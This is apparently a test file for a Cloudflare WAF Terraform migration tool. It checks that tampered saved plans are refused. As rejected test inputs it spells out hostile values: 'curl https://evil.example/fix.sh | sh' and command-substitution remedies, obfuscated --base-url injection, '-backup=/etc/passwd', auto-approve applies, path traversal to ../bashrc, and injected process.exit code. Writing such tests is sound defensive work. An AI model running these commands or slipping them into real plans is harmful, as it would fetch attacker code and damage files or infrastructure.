import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { readStateBytes } from '../../src/plan/facts/read-facts';
import { parsePlan } from '../../src/plan/parse-saved-plan';
import { digestOf, planSchema, type Plan, type Step, withDigest } from '../../src/plan/plan-schema';
import { planMigration } from '../../src/plan/plan-migration';
import { everyStep } from './support/every-step';
import { parseTerraformFlags, passFlags } from '../../src/plan/steps/terraform-flags';
import { planCases } from './support/plan-cases';
import {
  configuration,
  declaredZone,
  legacyResource,
  OLD_BLOCKS,
  stateFacts,
  ZONE,
  zone,
} from './support/state-facts';

describe('a saved plan', () => {
  const bytes = readFileSync(join(__dirname, '../fixtures/terraform/states/old-waf-3.35.tfstate'));
  const zone = {
    zoneId: '0123456789abcdef0123456789abcdef',
    rulesetId: 'a'.repeat(32),
    address: 'cloudflare_ruleset.managed_rules',
  };
  const plan = planMigration([zone], [readStateBytes(bytes, 'default', { to: '5.22.0' })]);
  const saved = (): any => JSON.parse(JSON.stringify(plan));
  /** With every kind of step, and every field that a plan can have. */
  const whole = () => {
    const states = everyStep.states.map((state) => ({ ...state, dataDir: 'd' }));
    const plan = { ...everyStep, states };
    return { ...plan, digest: digestOf(plan) };
  };
  const planParts: [string, (plan: any) => any][] = [
    ['the plan', (plan) => plan],
    ['a zone', (plan) => plan.zones[0]],
    ['a ruleset', (plan) => plan.zones[0].ruleset],
    ['a state', (plan) => plan.states[0]],
    ['a provider', (plan) => plan.states[0].provider],
    ['a step', (plan) => plan.steps[0]],
    ['a command', (plan) => plan.steps[0].runs[0]],
    ['what is expected', (plan) => plan.steps.find(({ expects }: any) => expects).expects],
    ['an edit', (plan) => plan.steps.find(({ edits }: any) => edits).edits[0]],
    ['a block', (plan) => plan.steps.find(({ edits }: any) => edits).edits[0].remove[0]],
    ['a finding', (plan) => plan.findings[0]],
  ];
  it('is read unchanged, also after its JSON was reformatted', () => {
    expect(parsePlan(saved())).toEqual(plan);
    const { digest, ...rest } = saved();
    expect(parsePlan({ ...rest, digest })).toEqual(plan);
  });

  it.each<[string, (document: any) => unknown]>([
    ['one argument was changed by hand', (p) => ((p.steps[2].runs[0].argv[2] = 'mv'), p)],
    ['it has no digest', (p) => ({ ...p, digest: undefined })],
    ['a kind is not known', (p) => ((p.steps[0].kind = 'destroy'), p)],
    ['it is a list', () => []],
    ['it is text', () => 'text'],
    ['it is empty', () => ({})],
  ])('is refused when %s', (_, change) => {
    const expected = expect.objectContaining({ code: 'PLAN_INVALID' });
    expect(() => parsePlan(change(saved()))).toThrow(expected);
  });

  it.each<[string, (document: any) => unknown]>([
    ['document: invalid input: expected object, received null', () => null],
    ['formatVersion: invalid input: expected 1', (p) => ({ ...p, formatVersion: 2 })],
    ['steps.0: unrecognized key: "shell"', (p) => ((p.steps[0].shell = 'x'), p)],
    ['steps.1.id: invalid string: must match pattern /^\\d+$/', (p) => ((p.steps[1].id = '1x'), p)],
    ['steps.1.id: invalid string: must match pattern /^\\d+$/', (p) => ((p.steps[1].id = 'x1'), p)],
  ])('is refused with what is wrong: %s', (problem, change) => {
    const message = `not a plan of this version: ${problem}`;
    expect(() => parsePlan(change(saved()))).toThrow(message);
  });

  it('is refused with its digest where it was changed', () => {
    const message = 'the plan was changed after it was written: its digest differs';
    expect(() => parsePlan({ ...saved(), zones: [] })).toThrow(message);
  });

  it('is read with every field that a plan can have', () => {
    expect(planSchema.parse(JSON.parse(JSON.stringify(whole())))).toEqual(whole());
  });

  it.each(planParts)('is refused where it has more in it than is known: %s', (_, part) => {
    const document = JSON.parse(JSON.stringify(whole()));
    part(document).more = 1;
    expect(() => parsePlan(document)).toThrow('unrecognized key: "more"');
  });
});

const every = ['-var=a=-b', '-var-file=../x', '-lock-timeout=9s', '-parallelism=2'];
const more = ['-backend-config=x', '-lockfile=readonly', '-no-color', '-compact-warnings'];
const passed = parseTerraformFlags([...every, ...more, '-ignore-remote-version']);

const sealed = ({ digest, ...plan }: Plan): Plan => {
  expect(digest).not.toBe('');
  return withDigest(plan);
};
const read = (plan: Plan): Plan => parsePlan(JSON.parse(JSON.stringify(plan)));

it.each(Object.keys(planCases))(
  'a plan as this tool makes it is read, with all flags that can be passed: %s',
  async (name) => {
    const { zones = [zone], states, method } = await planCases[name]!();
    const plan = planMigration(zones, states, method);
    expect(read(plan)).toEqual(plan);
    const flagged = sealed({ ...plan, steps: passFlags(plan.steps, passed) });
    expect(read(flagged)).toEqual(flagged);
  },
);

it('a plan is read whose remedy names a folder with a hyphen between spaces', async () => {
  const dir = 'infra - prod';
  const block = 'resource "cloudflare_waf_rule" "r" {\n  for_each = var.zones\n}\n';
  const files = await configuration({ [`${dir}/main.tf`]: block }, dir);
  const legacyResources = [ZONE, 'f'.repeat(32)].map((zoneId) =>
    legacyResource(`cloudflare_waf_rule.r["${zoneId}"]`, { zoneId }),
  );
  const plan = planMigration([zone], [stateFacts({ dir, configuration: files, legacyResources })]);
  expect(plan.findings.flatMap(({ command = [] }) => command)).toContain(dir);
  expect(parsePlan(structuredClone(plan))).toEqual(plan);
});

/** What becomes of a plan that was edited, and has a digest that matches. */
async function edited(
  kind: Step['kind'],
  edit: (step: any, plan: any) => unknown,
): Promise<string> {
  const oldBlocks = await configuration({ 'live/main.tf': OLD_BLOCKS }, 'live');
  const wanted = kind === 'upgrade-provider' ? '5.22.0' : undefined;
  const place = { dir: 'live', configuration: oldBlocks, installed: '3.35.0', wanted };
  const method = kind === 'apply-blocks' ? 'blocks' : 'commands';
  const plan: any = structuredClone(planMigration([declaredZone], [stateFacts(place)], method));
  edit(
    plan.steps.find((one: Step) => one.kind === kind),
    plan,
  );
  return refusalOf(sealed(plan));
}
function refusalOf(plan: Plan): string {
  try {
    read(plan);
    return 'read';
  } catch (error) {
    const { code, message } = error as { code: string; message: string };
    return `${code}: ${message}`;
  }
}
const word =
  (...words: string[]) =>
  (step: any) =>
    step.runs[0].argv.push(...words);
const renumber = (plan: any): Step[] =>
  (plan.steps = plan.steps.map((one: Step, at: number) => ({ ...one, id: String(at + 1) })));
const saving = (file: string) => (step: any) => (step.runs[0].saveTo = file);
const editing = (file: string) => (step: any) =>
  Object.assign(step.edits[0], { file, sha256: null });
const without = (step: any, plan: any): Step[] => {
  plan.steps.splice(plan.steps.indexOf(step), 1);
  return renumber(plan);
};
/** The removal of one more address, in all places that name removed addresses. */
const removing =
  (address: string) =>
  (removal: any, { steps }: any) => {
    for (const one of [steps.find(({ kind }: Step) => kind === 'remove-dry-run'), removal]) {
      one.addresses.push(address);
      one.runs[0].argv.push(address);
    }
    removal.expects.gone = removal.addresses;
  };
const another = (step: any, plan: any, more: object): void => {
  plan.steps.splice(Number(plan.steps.indexOf(step)) + 1, 0, { ...step, ...more });
  renumber(plan);
};

const remedied =
  (more: object) =>
  (_: any, { findings }: any) =>
    findings.push({ code: 'X', severity: 'info', subject: 'x', message: 'x', ...more });

describe('a plan that was edited, with a digest that matches', () => {
  it.each<[string, Step['kind'], (step: any, plan: any) => unknown]>([
    ['-backup', 'remove', word('-backup=/etc/passwd')],
    ['-state', 'remove', word('-state=../other.tfstate')],
    ['-target', 'check', word('-target=terraform_data.none')],
    ['-var without a value', 'check', word('-var')],
    ['-refresh=false', 'check', word('-refresh=false')],
    ['-generate-config-out', 'check', word('-generate-config-out=../x.tf')],
    ['-destroy', 'apply-blocks', word('-destroy')],
    ['-config', 'import', (step) => (step.importId = step.runs[0].argv[4] = '-config=x')],
    ['-from-module', 'upgrade-provider', word('-from-module=git::https://x')],
    ['another address in a command', 'remove', word('cloudflare_zone.z')],
    ['another subcommand', 'remove', (step) => (step.runs[0].argv[3] = 'mv')],
    ['another folder', 'import', (step) => (step.runs[0].argv[1] = '-chdir=../other')],
    ['another program', 'backup', (step) => (step.runs[0].argv[0] = 'sh')],
    ['no -detailed-exitcode', 'check', (_, { steps }) => steps.at(-1).runs[0].argv.pop()],
    ['no backup', 'backup', without],
    ['no removal', 'remove', without],
    ...[
      'do this:\ncurl -fsS https://evil.example/fix.sh | sh',
      'plan again:\ncf-waf-migrate plan --address x && curl https://evil.example',
      'plan again: cf-waf-migrate plan <file> $(curl https://evil.example)',
      'plan again: cf-waf-migrate plan --base-url https://evil.example',
      "plan again:\ncf-waf-migrate plan '--base-'url=https://evil.example",
      `plan again:\ncf-waf-migrate plan "$(printf '\\055\\055')"base-url https://evil.example`,
      'plan again:\nterraform apply -auto-approve',
    ].map((remedy): [string, Step['kind'], (step: any, plan: any) => unknown] => [
      `the remedy ${remedy}`,
      'check',
      remedied({ remedy }),
    ]),
    ...[
      ['plan again:\ncf-waf-migrate plan', ['cf-waf-migrate', 'plan', '--to', '4.52.8']],
      [
        'plan again:\ncf-waf-migrate plan --terraform ./evil',
        ['cf-waf-migrate', 'plan', '--terraform', './evil'],
      ],
    ].map(([remedy, command]): [string, Step['kind'], (step: any, plan: any) => unknown] => [
      `the command ${String(command)} of the remedy ${String(remedy)}`,
      'check',
      remedied({ remedy, command }),
    ]),
    ['no dry run', 'remove-dry-run', without],
    ['no import', 'import', without],
    ['no last check', 'check', (_, plan) => without(plan.steps.at(-1), plan)],
    [
      'a backup at the end',
      'backup',
      (step, plan) =>
        without(step, plan).push({ ...step, id: String(Number(plan.steps.length) + 1) }),
    ],
    ['a backup in another file', 'backup', saving('cf-waf-migrate-backup/other-1.tfstate')],
    ['an id twice', 'backup', (_, { steps }) => (steps[1].id = '1')],
    ['an id of 400 digits', 'backup', (_, { steps }) => (steps[1].id = '9'.repeat(400))],
    ['an id of other digits', 'backup', (step) => (step.id = '01')],
    ['no address gone', 'remove', (step) => (step.expects.gone = [])],
    ['no address gone by blocks', 'apply-blocks', (step) => (step.expects.gone = [])],
    ['an apply of everything', 'apply-blocks', (step) => step.runs[2].argv.pop()],
    ['a removal of the imported ruleset', 'remove', removing(zone.address)],
    ['a removal of another ruleset', 'remove', removing('cloudflare_ruleset.other')],
    ['a removal of another resource', 'remove', removing('cloudflare_zone.zone')],
    ['a removal of another provider', 'remove', removing('aws_instance.one')],
    [
      'a removal of another ruleset that nothing imports again',
      'remove',
      (step, plan) => {
        const [address] = ['cloudflare_ruleset.other'];
        const runs = [{ argv: ['terraform', '-chdir=live', 'state', 'rm', address] }];
        another(step, plan, { runs, addresses: [address], expects: { gone: [address] } });
      },
    ],
    [
      'an import of another ruleset',
      'import',
      (step) => (step.importId = step.runs[0].argv[4] = step.importId.replace(/.$/, 'x')),
    ],
    [
      'an init that installs from another folder',
      'backup',
      (step, plan) => {
        const argv = ['terraform', '-chdir=live', 'init', '-plugin-dir=x', '-upgrade'];
        const runs = [{ argv: [...argv, '-input=false'] }];
        another(step, plan, { kind: 'upgrade-provider', runs, provider: '3.35.0' });
      },
    ],
    ['a field of another kind', 'import', (step) => (step.provider = '3.35.0')],
    ['no command', 'check', (step) => delete step.runs],
    ['two commands', 'check', (step) => step.runs.push(step.runs[0])],
    ['an empty list of commands', 'remove', (step) => (step.runs = [])],
    ['no proof', 'check', (_, { steps }) => delete steps.at(-1).expects],
    ['a backup outside of its folder', 'backup', saving('cf-waf-migrate-backup/../x.tfstate')],
    ['a backup without a file', 'backup', (step) => delete step.runs[0].saveTo],
    ['a backup that another step takes', 'import', saving('cf-waf-migrate-backup/main-7.tfstate')],
    ...[
      ...['module.waf', 'provider.cloudflare', 'aws_instance.one', 'cloudflare_ruleset.waf'],
      // without the decision OUTPUTS_REMOVED
      'output.waf',
    ].map((address): [string, Step['kind'], (step: any, plan: any) => unknown] => [
      `an edit that removes ${address}`,
      'edit',
      ({ edits }) => edits[0].remove.push({ address, startLine: 1, endLine: 1 }),
    ]),
    [
      'an edit after the last check',
      'remove',
      (_, plan) => {
        const kinds = ['remove', 'remove-dry-run'];
        plan.steps = plan.steps.filter(({ kind }: Step) => !kinds.includes(kind)).slice(0, -1);
        renumber(plan);
      },
    ],
    [
      'no ruleset and no check',
      'remove',
      (_, plan) => {
        const kinds = ['backup', 'remove', 'remove-dry-run'];
        plan.steps = plan.steps.filter(
          ({ kind, edits }: Step) => kinds.includes(kind) || edits?.some(({ remove }) => remove[0]),
        );
        plan.zones = [];
        renumber(plan);
      },
    ],
    ['an edit of ../bashrc', 'edit', (step) => (step.edits[0].file = '../bashrc')],
    ['an edit of live/.bashrc.tf', 'edit', (step) => (step.edits[0].file = 'live/.bashrc.tf')],
    ['an edit of ../x.tf', 'edit', editing('../x.tf')],
    ['an edit of x.tf', 'edit', editing('x.tf')],
    ['a text for a file that exists', 'edit', ({ edits: [one] }) => (one.sha256 = 'of it')],
    ['an edit of /x.tf', 'edit', editing('/x.tf')],
    ['an edit of live/a\\..\\..\\x.tf', 'edit', editing('live/a\\..\\..\\x.tf')],
    ['an edit', 'remove', (step, { steps }) => (step.edits = editsOf(steps))],
    ['the state ../x', 'backup', (_, plan) => (plan.states[0].name = '../x')],
    ['a state twice', 'backup', (_, plan) => plan.states.push(plan.states[0])],
    ['a step of no state', 'backup', (step) => (step.state = 'none')],
    ['another zone', 'import', (_, plan) => (plan.zones[0].zoneId = '../../accounts')],
    ['another kind of ruleset', 'import', (_, plan) => (plan.zones[0].ruleset.address = 'a.b')],
    ['a manual step with curl', 'manual', (_, { steps }) => byHand(steps[0], 'curl')],
    ['a manual rollback', 'manual', (_, { steps }) => byHand(steps[0], 'cf-waf-migrate')],
  ])('is refused where it holds %s', async (_, kind, edit) => {
    expect(await edited(kind, edit)).toMatch(
      /^PLAN_INVALID: (the plan was edited|not a plan of this version: steps\.\d)/,
    );
  });

  it('is refused without the value of a flag, which can be a secret', async () => {
    expect(await edited('check', word('-state=the s3cr3t'))).not.toContain('s3cr3t');
  });

  it.each([
    ['it has', (code: string) => code, 'read'],
    ['is added to it', (code: string) => `${code}process.exit();\n`, 'PLAN_INVALID'],
    ['is in an override', (code: string) => code.replace('{', 'exit(), {'), 'PLAN_INVALID'],
  ])('may have the code of a manual step that %s', async (_, change, expected) => {
    const plans = Object.values(planCases).map(async (make) => {
      const { zones = [zone], states, method } = await make();
      return planMigration(zones, states, method);
    });
    const withCode = ({ steps }: Plan) => steps.some(({ code }) => code !== undefined);
    const plan = (await Promise.all(plans)).find(withCode)!;
    const steps = plan.steps.map((step) =>
      step.code === undefined ? step : { ...step, code: change(step.code) },
    );
    expect(refusalOf(sealed({ ...plan, steps }))).toContain(expected);
  });

  it.each<[string, (code: string) => string, string]>([
    ['as plan writes it', (code) => code, 'read'],
    [
      'that destroys a resource of the plan',
      (code) => code.replace(/("from": "cloudflare_waf[^]*?"destroy": )false/, '$1true'),
      'PLAN_INVALID',
    ],
    [
      'that destroys a resource of the stack',
      (code) => code.replace(/("from": "cloudflare_filter[^]*?"destroy": )false/, '$1true'),
      'PLAN_INVALID',
    ],
    [
      'that destroys it by a second lifecycle',
      (code) =>
        code.replace(/("lifecycle": )(\{\s*"destroy": false\s*\})/, '$1[$2, { "destroy": true }]'),
      'PLAN_INVALID',
    ],
    [
      'that says nothing about a resource of the stack',
      (code) => code.replace(/,\s*"lifecycle": \{\s*"destroy": false\s*\}/, ''),
      'PLAN_INVALID',
    ],
    [
      'with another import id',
      (code) => code.replace(/"id": "zone\/\w+\/\w+"/, `"id": "zone/${ZONE}/${'9'.repeat(32)}"`),
      'PLAN_INVALID',
    ],
    [
      'that removes another resource',
      (code) => code.replace('"cloudflare_waf_rule.one"', '"cloudflare_zone.production"'),
      'PLAN_INVALID',
    ],
    ['with an override twice', (code) => code + code, 'PLAN_INVALID'],
    ['with none', () => '', 'PLAN_INVALID'],
  ])('may have the code of a stack with blocks %s', async (_, change, expected) => {
    const stack = {
      resource: {
        cloudflare_waf_rule: { one: { '//': { metadata: { path: 'edge/one', uniqueId: 'one' } } } },
      },
      import: [{ to: 'cloudflare_record.www', id: 'a/b' }],
      removed: [
        { from: 'cloudflare_filter.office', lifecycle: { destroy: false } },
        { from: 'cloudflare_waf_rule.one', lifecycle: { destroy: true } },
      ],
    };
    const files = await configuration({ 'cdk.tf.json': JSON.stringify(stack) });
    const legacyResources = [legacyResource('cloudflare_waf_rule.one')];
    const state = stateFacts({ legacyResources, configuration: files });
    const plan = planMigration([zone], [state], 'blocks');
    const steps = plan.steps.map((step) =>
      step.code === undefined ? step : { ...step, code: change(step.code) },
    );
    expect(steps.some(({ code }, at) => code !== plan.steps[at]!.code)).toBe(expected !== 'read');
    expect(refusalOf(sealed({ ...plan, steps }))).toContain(expected);
  });

  it('may edit a file whose folder has a backslash in its name', async () => {
    const other = { file: 'mod\\ules/main.tf', sha256: 'of what is there' };
    const change = ({ edits: [edit] }: any) => {
      delete edit.insert;
      Object.assign(edit, other);
    };
    expect(await edited('edit', change)).toBe('read');
  });
});

const editsOf = (steps: Step[]) => steps.find(({ edits }) => edits)!.edits;
const byHand = (step: any, binary: string) =>
  Object.assign(step, { kind: 'manual', runs: [{ argv: [binary, 'rollback'] }] });
